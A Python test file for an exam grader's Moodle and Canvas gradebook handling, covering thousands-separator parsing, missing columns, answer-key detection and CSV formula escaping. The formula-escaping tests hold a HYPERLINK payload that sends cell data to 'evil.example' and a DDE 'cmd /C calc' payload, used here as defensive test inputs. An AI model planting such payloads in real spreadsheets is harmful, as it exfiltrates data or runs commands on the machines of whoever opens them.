"""The LMS's files as the world writes them (issue 21: faults 7, 8, 10): maxima with
thousands separators in either convention read right or refused with one line; an
export without the columns the upload needs refused; formula cells made inert where the
importer does not read; the answer key handed in held, never a silent full score."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import sys
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lstm_exam.generator.core import defaults
from lstm_exam.generator.core.errors import InputError
from lstm_exam.generator.generate import generate
from lstm_exam.generator.spec.roster import read_roster
from lstm_exam.generator.spec.worksheet import load_spec
from lstm_exam.graders.lms import LmsInputs, Table, canvas_points, moodle_points, read_table
from lstm_exam.graders.lmsnumbers import read_number
from lstm_exam.graders.results import Status
from lstm_exam.graders.run import grade

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "scripts"))
import lms  # noqa: E402
import make_lms_data as fixture  # noqa: E402

LMS = ROOT / "tests" / "data" / "lms"
BY_ID = {p.student_id: p for p in fixture.CLASS}
#: The students who hand in their own answers, every one right.
FULL = ("s001", "s002", "s003")
CANVAS_COLUMN = "Week 5: LSTM gates (88001)"


@pytest.fixture(scope="module")
def klass(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("lmsnum") / "wk"
    generate(load_spec(None), read_roster(LMS / "roster.csv"), out, seed="lms-numbers-seed-1")
    return out


def _key_rows(folder: Path, sid: str) -> list[dict[str, str]]:
    text = (folder / "keys" / f"{sid}.csv").read_text("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def _answers(folder: Path, sid: str) -> bytes:
    """The student's own answers, all right, in the answer template's columns."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["label", "description", "answer"])
    w.writerows([r["label"], r["description"], r["answer"]] for r in _key_rows(folder, sid))
    return buf.getvalue().encode()


@pytest.fixture(scope="module")
def moodle_subs(klass, tmp_path_factory) -> Path:
    """Moodle's folders layout, FULL's answers all right."""
    subs = tmp_path_factory.mktemp("msubs")
    for sid in FULL:
        member = lms.moodle_submission_member(fixture.moodle_user(BY_ID[sid]), "answers.csv")
        path = subs / member
        path.parent.mkdir(parents=True)
        path.write_bytes(_answers(klass, sid))
    return subs


@pytest.fixture(scope="module")
def canvas_subs(klass, tmp_path_factory) -> Path:
    """Canvas's flat names, FULL's answers all right."""
    subs = tmp_path_factory.mktemp("csubs")
    for k, sid in enumerate(FULL):
        f = lms.CanvasFile(920000 + k, "answers.csv", _answers(klass, sid))
        sub = lms.CanvasSubmission(fixture.canvas_student(BY_ID[sid]), (f,))
        (subs / lms.canvas_submission_member(sub, f)).write_bytes(f.data)
    return subs


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))


def _edited(src: Path, dst: Path, edit: Callable[[list[list[str]]], None]) -> Path:
    rows = _rows(src)
    edit(rows)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    dst.write_bytes(("\ufeff" + buf.getvalue()).encode())
    return dst


def _set_column(name: str, value: str, rows_from: int = 1) -> Callable[[list[list[str]]], None]:
    def edit(rows: list[list[str]]) -> None:
        at = rows[0].index(name)
        for row in rows[rows_from:]:
            row[at] = value

    return edit


def _canvas_points(value: str) -> Callable[[list[list[str]]], None]:
    def edit(rows: list[list[str]]) -> None:
        rows[1][rows[0].index(CANVAS_COLUMN)] = value

    return edit


# --- fault 8: maxima with thousands separators -------------------------------------------

MOODLE_THOUSAND = ["1,000.00", "1.000,00", "1 000,00", "1\u202f000,00", "1'000.00", "1000,00"]


@pytest.mark.parametrize("written", MOODLE_THOUSAND)
def test_a_moodle_maximum_with_thousands_separators_is_read_in_either_convention(
    klass, moodle_subs, tmp_path, written
):
    sheet = _edited(
        LMS / "moodle-grading-worksheet.csv",
        tmp_path / "ws.csv",
        _set_column("Maximum Grade", written),
    )
    grade(klass, moodle_subs, tmp_path / "g", lms=LmsInputs(moodle_worksheet=sheet))
    data = (tmp_path / "g" / "lms" / "moodle-grading-worksheet.csv").read_bytes()
    participants = {p.participant: fixture.moodle_user(p) for p in fixture.CLASS}
    imported = lms.moodle_worksheet_import_check(data, participants, maxgrade=1000.0)
    by_pid = {p.participant: p.student_id for p in fixture.CLASS}
    got = {by_pid[r.participant.participantid]: r for r in imported}
    for sid in FULL:  # full marks are the whole 1000 points, not 14 of them
        assert got[sid].grade_text == "1000" and got[sid].grade_update, got[sid].skip_reason


@pytest.mark.parametrize("written", ["1,000.00", "1.000,00", "1 000", "1000", "1000,00"])
def test_canvas_points_possible_with_thousands_separators_are_read(
    klass, canvas_subs, tmp_path, written
):
    book = _edited(LMS / "canvas-gradebook.csv", tmp_path / "gb.csv", _canvas_points(written))
    lms_in = LmsInputs(canvas_gradebook=book, canvas_assignment="Week 5: LSTM gates")
    grade(klass, canvas_subs, tmp_path / "g", lms=lms_in)
    data = (tmp_path / "g" / "lms" / "canvas-gradebook.csv").read_bytes()
    students = [fixture.canvas_student(p) for p in fixture.CLASS]
    imported = lms.canvas_gradebook_import_check(data, students)
    got = {s.login_id: g for s, _how, g in imported.students if s}
    for sid in FULL:
        assert got[sid][CANVAS_COLUMN] == "1000"


#: (what, text, words of the fault): never a traceback, never a guess.
REFUSED = [
    ("moodle", "1e30", "not a number"),
    ("moodle", "NaN", "not a number"),
    ("moodle", "inf", "not a number"),
    ("moodle", "-10.00", "negative"),
    ("moodle", "0.00", "no points"),
    ("moodle", "1000000.00", "more than"),
    ("moodle", "1.000", "1 or 1000"),  # its grades show 2 places: no Moodle writes this
    ("moodle", "10.0.0", "by thousands"),
    ("moodle", "1,000 000.5", "mixes"),
    ("moodle", "", "empty"),
    ("moodle", "10.1234567", "decimal places"),
    ("canvas", "1,000", "1 or 1000"),  # Canvas writes two places, never three
    ("canvas", "1e30", "not a number"),
    ("canvas", "Infinity", "not a number"),
    ("canvas", "-5", "negative"),
    ("canvas", "1000001", "more than"),
    ("canvas", "(read only)", "not a number"),
]


@pytest.mark.parametrize(("what", "text", "fault"), REFUSED)
def test_a_maximum_no_lms_writes_is_one_line(klass, moodle_subs, run, what, text, fault):
    if what == "moodle":
        src, option, edit = (
            "moodle-grading-worksheet.csv",
            "--moodle-worksheet",
            _set_column("Maximum Grade", text),
        )
        place = "line 2, column 'Maximum Grade': "
    else:
        src, option, edit = "canvas-gradebook.csv", "--canvas-gradebook", _canvas_points(text)
        place = f"line 2, column '{CANVAS_COLUMN}': "
    export = _edited(LMS / src, Path.cwd() / "export.csv", edit)
    extra = ["--canvas-assignment", "Week 5: LSTM gates"] if what == "canvas" else []
    res = run("grade", klass, moodle_subs, "--out", "g", option, export, *extra)
    assert res.exit_code == 2, res.output
    assert res.stderr.startswith(f"error: {export}: {place}"), res.stderr
    assert fault in res.stderr and len(res.stderr.splitlines()) == 1
    assert not Path("g").exists()


def test_moodle_s_own_three_places_are_read_as_moodle_writes_them(tmp_path):
    """``1,000`` is one point where the worksheet's grades show Moodle's three places."""

    def edit(rows: list[list[str]]) -> None:
        g, m = rows[0].index("Grade"), rows[0].index("Maximum Grade")
        for row in rows[1:]:
            row[m] = "1,000"
            row[g] = "0,500" if row[g] else ""

    sheet = _edited(LMS / "moodle-grading-worksheet.csv", tmp_path / "ws.csv", edit)
    assert set(moodle_points(read_table(sheet, "worksheet"))) == {Decimal(1)}


# --- fault 8: a worksheet without the columns it needs ------------------------------------


def _without(name: str) -> Callable[[list[list[str]]], None]:
    def edit(rows: list[list[str]]) -> None:
        at = rows[0].index(name)
        for row in rows:
            del row[at]

    return edit


@pytest.mark.parametrize(
    "column", ["Grade", "Identifier", "Last modified (grade)", "Maximum Grade"]
)
def test_a_worksheet_without_a_needed_column_is_one_line(klass, moodle_subs, run, column):
    sheet = _edited(LMS / "moodle-grading-worksheet.csv", Path.cwd() / "ws.csv", _without(column))
    res = run("grade", klass, moodle_subs, "--out", "g", "--moodle-worksheet", sheet)
    assert res.exit_code == 2
    assert res.stderr.startswith(f"error: {sheet}: line 1: ") and repr(column) in res.stderr
    assert len(res.stderr.splitlines()) == 1 and not Path("g").exists()


def test_a_worksheet_on_a_scale_is_one_line(klass, moodle_subs, run):
    def edit(rows: list[list[str]]) -> None:
        rows[0][rows[0].index("Maximum Grade")] = "Scale"

    sheet = _edited(LMS / "moodle-grading-worksheet.csv", Path.cwd() / "ws.csv", edit)
    res = run("grade", klass, moodle_subs, "--out", "g", "--moodle-worksheet", sheet)
    assert res.exit_code == 2 and "scale" in res.stderr and len(res.stderr.splitlines()) == 1


@pytest.mark.parametrize("missing", ["Section", "Points Possible"])
def test_a_canvas_export_without_what_it_needs_is_one_line(klass, canvas_subs, run, missing):
    def edit(rows: list[list[str]]) -> None:
        if missing == "Section":
            _without("Section")(rows)
        else:
            del rows[1]

    book = _edited(LMS / "canvas-gradebook.csv", Path.cwd() / "gb.csv", edit)
    res = run(
        "grade", klass, canvas_subs, "--out", "g", "--canvas-gradebook", book,
        "--canvas-assignment", "Week 5: LSTM gates",
    )  # fmt: skip
    assert res.exit_code == 2 and res.stderr.startswith(f"error: {book}: ")
    assert repr(missing) in res.stderr and len(res.stderr.splitlines()) == 1
    assert not Path("g").exists()


# --- the class: any number in either convention, any garbage -----------------------------


def _grouped(digits: str, sep: str) -> str:
    head = len(digits) % 3 or 3
    return sep.join([digits[:head]] + [digits[k : k + 3] for k in range(head, len(digits), 3)])


#: (thousands separator, decimal mark) as locales and spreadsheets write them.
CONVENTIONS = [
    ("", "."), ("", ","), (",", "."), (".", ","), (" ", ","), ("\u00a0", ","),
    ("\u202f", ","), ("'", "."), ("\u2019", "."), (" ", "."),
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.decimals(min_value=Decimal("0.01"), max_value=defaults.MAX_LMS_POINTS, places=2),
    st.sampled_from(CONVENTIONS),
    st.integers(min_value=0, max_value=defaults.MAX_LMS_PLACES),
)
def test_any_number_in_either_convention_reads_back_exactly(value, convention, places):
    sep, mark = convention
    text = f"{value:.{places}f}"
    if Decimal(text) <= 0:
        return
    whole, _, fraction = text.partition(".")
    written = _grouped(whole, sep) + (mark + fraction if fraction else "")
    r = read_number(written)
    if r.grouped is None:
        assert r.value == Decimal(text), written
    else:  # "1,000" or "1.000": one of its two readings is the number written
        assert Decimal(text) in (r.value, r.grouped), written
        assert re.fullmatch(r"[1-9][0-9]{0,2}[.,][0-9]{3}", written), written


@settings(max_examples=200, deadline=None)
@given(st.decimals(min_value=Decimal("0.01"), max_value=defaults.MAX_LMS_POINTS, places=2))
def test_what_moodle_and_canvas_write_reads_back_in_every_locale(value):
    for mark in ".,":
        for places in range(6):  # Moodle: format_float(max, the item's places)
            text = f"{value:.{places}f}".replace(".", mark)
            if Decimal(text.replace(",", ".")) <= 0 or places == 3:
                continue
            assert read_number(text).value == Decimal(text.replace(",", "."))
        canvas = f"{value:.2f}".replace(".", mark)  # I18n.n(points, precision: 2)
        table = _points_table(canvas)
        assert canvas_points(table, 5) == value


def _points_table(text: str) -> Table:
    header = ("Student", "ID", "SIS User ID", "SIS Login ID", "Section", CANVAS_COLUMN)
    rows = (("    Points Possible", "", "", "", "", text),)
    return Table(
        file="gb.csv", header=header, rows=rows, lines=(2,), delimiter=",", encoding="UTF-8"
    )


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=40) | st.from_regex(r"-?[0-9.,' ]{0,30}", fullmatch=True))
def test_any_text_as_a_maximum_is_a_number_in_bounds_or_one_line(text):
    header = ("Identifier", "Grade", "Maximum Grade", "Last modified (grade)")
    table = Table(
        file="ws.csv",
        header=header,
        rows=(("Participant 1", "", text, "-"),),
        lines=(2,),
        delimiter=",",
        encoding="UTF-8",
    )
    for read in (lambda: moodle_points(table)[0], lambda: canvas_points(_points_table(text), 5)):
        try:
            value = read()
        except InputError as e:
            assert e.file.endswith(".csv") and e.place.startswith("line 2, column ")
            assert e.fault and "\n" not in e.fault
            continue
        assert 0 < value <= defaults.MAX_LMS_POINTS
        assert -value.as_tuple().exponent <= defaults.MAX_LMS_PLACES


# --- fault 10: formula cells in the files written back -------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_cells_are_inert_where_moodle_does_not_read_and_said_where_it_does(
    klass, moodle_subs, tmp_path
):
    def edit(rows: list[list[str]]) -> None:
        h = rows[0]
        rows[1][h.index("Full name")] = FORMULA  # s001, joined by e-mail
        rows[5][h.index("Email address")] = "+cmd|' /C calc'!A0"
        rows[3][h.index("Status")] = "@SUM(1)"
        rows[4][h.index("Last modified (grade)")] = "=NOW()"  # Moodle's importer reads it

    sheet = _edited(LMS / "moodle-grading-worksheet.csv", tmp_path / "ws.csv", edit)
    run_ = grade(klass, moodle_subs, tmp_path / "g", lms=LmsInputs(moodle_worksheet=sheet))
    data = (tmp_path / "g" / "lms" / "moodle-grading-worksheet.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    before = _rows(sheet)
    h = rows[0]
    assert rows[1][h.index("Full name")] == "'" + FORMULA
    assert rows[5][h.index("Email address")].startswith("'+")
    assert rows[3][h.index("Status")] == "'@SUM(1)"
    for at in (h.index("Identifier"), h.index("Last modified (grade)")):
        assert [r[at] for r in rows] == [r[at] for r in before]  # what the importer reads
    said = [n for n in run_.notices if "start like a spreadsheet formula" in n]
    assert said and "'Last modified (grade)' (line 5)" in said[0]
    # the importer takes every grade as before: nothing it reads was touched
    participants = {p.participant: fixture.moodle_user(p) for p in fixture.CLASS}
    imported = {
        row.participant.participantid: row
        for row in lms.moodle_worksheet_import_check(data, participants, maxgrade=10.0)
    }
    for sid in FULL:
        got = imported[BY_ID[sid].participant]
        assert got.grade_text == "10" and got.grade_update


def test_formula_cells_in_canvas_names_are_inert_and_canvas_still_finds_each_student(
    klass, canvas_subs, tmp_path
):
    def edit(rows: list[list[str]]) -> None:
        for row in rows[2:]:
            row[0] = FORMULA
        rows[2][rows[0].index("Section")] = "-2+3"
        rows[3][rows[0].index("Section")] = "  @SUM(1)"  # behind spaces a spreadsheet trims

    book = _edited(LMS / "canvas-gradebook.csv", tmp_path / "gb.csv", edit)
    lms_in = LmsInputs(canvas_gradebook=book, canvas_assignment="Week 5: LSTM gates")
    grade(klass, canvas_subs, tmp_path / "g", lms=lms_in)
    data = (tmp_path / "g" / "lms" / "canvas-gradebook.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert all(row[0] == "'" + FORMULA for row in rows[2:])
    assert rows[2][rows[0].index("Section")] == "'-2+3"
    assert rows[3][rows[0].index("Section")] == "'  @SUM(1)"
    assert rows[1][0] == "    Points Possible"
    students = [fixture.canvas_student(p) for p in fixture.CLASS]
    imported = lms.canvas_gradebook_import_check(data, students)
    assert all(s is not None and how == "id" for s, how, _g in imported.students)
    got = {s.login_id: g for s, _how, g in imported.students if s}
    assert all(got[sid][CANVAS_COLUMN] == "10" for sid in FULL)


# --- fault 10: the answer key handed in ---------------------------------------------------


def _by_id(folder: Path) -> dict[str, dict[str, str]]:
    rows = csv.DictReader(io.StringIO((folder / "gradebook.csv").read_text("utf-8-sig")))
    return {r["student_id"]: r for r in rows if r["student_id"]}


@pytest.mark.parametrize("how", ["copy", "hard link", "another student's"])
def test_the_answer_key_handed_in_is_held_never_a_silent_full_score(klass, tmp_path, how):
    subs = tmp_path / "subs"
    for sid in FULL:
        member = lms.moodle_submission_member(fixture.moodle_user(BY_ID[sid]), "answers.csv")
        path = subs / member
        path.parent.mkdir(parents=True)
        if sid != "s001":
            path.write_bytes(_answers(klass, sid))  # their own answers, all right
        elif how == "copy":
            shutil.copyfile(klass / "keys" / "s001.csv", path)
        elif how == "hard link":
            os.link(klass / "keys" / "s001.csv", path)
        else:
            shutil.copyfile(klass / "keys" / "s002.csv", path)
    sheet = LMS / "moodle-grading-worksheet.csv"
    out = tmp_path / "g"
    run_ = grade(klass, subs, out, lms=LmsInputs(moodle_worksheet=sheet))
    r = {x.student_id: x for x in run_.results if x.student_id}
    assert r["s001"].held and "this is the answer key" in r["s001"].flags[0]
    book = _by_id(out)
    assert book["s001"]["score"] == "" and "answer key" in book["s001"]["flags"]
    for sid in ("s002", "s003"):  # a student's own right answers are never taken for the key
        assert not r[sid].held and r[sid].percent == 100 and book[sid]["percent"] == "100"
    data = (out / "lms" / "moodle-grading-worksheet.csv").read_bytes()
    participants = {p.participant: fixture.moodle_user(p) for p in fixture.CLASS}
    imported = {
        row.participant.participantid: row
        for row in lms.moodle_worksheet_import_check(data, participants, maxgrade=10.0)
    }
    downloaded = {row[0]: row for row in _rows(sheet)}  # held: grade and feedback as they were
    held = imported[BY_ID["s001"].participant]
    assert held.grade_text == downloaded["Participant 73015"][4]
    assert held.feedback["Feedback comments"] == downloaded["Participant 73015"][9]
    assert imported[BY_ID["s002"].participant].grade_text == "10"
    page = (out / "feedback" / "s001.html").read_text("utf-8")
    assert "answer key" in page
    assert run_.results and r["s001"].status is Status.GRADED


def test_the_keys_folder_as_the_submissions_is_held_row_by_row(klass, tmp_path):
    run_ = grade(klass, klass / "keys", tmp_path / "g")
    roster = [r for r in run_.results if r.on_roster]
    assert roster and all(r.held and r.status is Status.GRADED for r in roster)
    book = _by_id(tmp_path / "g")
    assert all(row["score"] == "" and "answer key" in row["flags"] for row in book.values())


@settings(max_examples=60, deadline=None)
@given(
    st.permutations(["label", "description", "answer"]),
    st.lists(st.sampled_from(["Label", "ANSWER ", "notes", "student", "x"]), max_size=2),
    st.booleans(),
)
def test_a_template_shaped_file_is_never_taken_for_the_key(order, extra, with_key_column):
    from lstm_exam.graders.reading import KEY_ONLY, read_sheet

    header = list(order) + extra + (["accept_min"] if with_key_column else [])
    row = {"label": "q1.f_t[1]", "description": "Problem 1", "answer": "0.5"}
    body = ",".join(row.get(c, "") for c in header)
    sheet = read_sheet(f"{','.join(header)}\r\n{body}\r\n".encode())
    assert bool(sheet.key_columns) == with_key_column
    assert set(sheet.key_columns) <= set(KEY_ONLY)


_WORKSHEET_LINES = _rows(LMS / "moodle-grading-worksheet.csv")[:4]
_CANVAS_LINES = _rows(LMS / "canvas-gradebook.csv")[:4]


@settings(max_examples=80, deadline=None)
@given(
    st.sampled_from(["moodle", "canvas"]),
    st.integers(min_value=0, max_value=3),
    st.integers(min_value=0, max_value=12),
    st.text(max_size=30),
)
def test_any_cell_of_an_export_gives_the_identity_or_one_line(tmp_path_factory, what, r, c, text):
    """Any text in any cell of a real export (header included): read, or one line."""
    from lstm_exam.graders.lms import identity

    rows = [list(row) for row in (_WORKSHEET_LINES if what == "moodle" else _CANVAS_LINES)]
    row = rows[r]
    row[c % len(row)] = text
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path = tmp_path_factory.mktemp("fz") / "export.csv"
    path.write_bytes(buf.getvalue().encode("utf-8", "surrogatepass"))
    students = read_roster(LMS / "roster.csv")
    if what == "moodle":
        lms_in = LmsInputs(moodle_worksheet=path)
    else:
        lms_in = LmsInputs(canvas_gradebook=path, canvas_assignment="Week 5: LSTM gates")
    try:
        who = identity(lms_in, students, None)
    except InputError as e:
        assert e.file == str(path) and e.fault and "\n" not in e.line()
        return
    for out_of in (*who.moodle_points, *([who.canvas_points] if who.canvas_points else [])):
        assert 0 < out_of <= defaults.MAX_LMS_POINTS


@given(st.text(max_size=20))
def test_no_cell_written_back_starts_like_a_formula(text):
    """The rule every text cell of the files a spreadsheet opens goes through."""
    from lstm_exam.generator.store.csvfiles import safe_cell

    out = safe_cell(text)
    starts = tuple("=+-@\t\r")
    if out != text:
        assert out == "'" + text
    else:
        assert not text.startswith(starts) and not text.lstrip().startswith(starts)
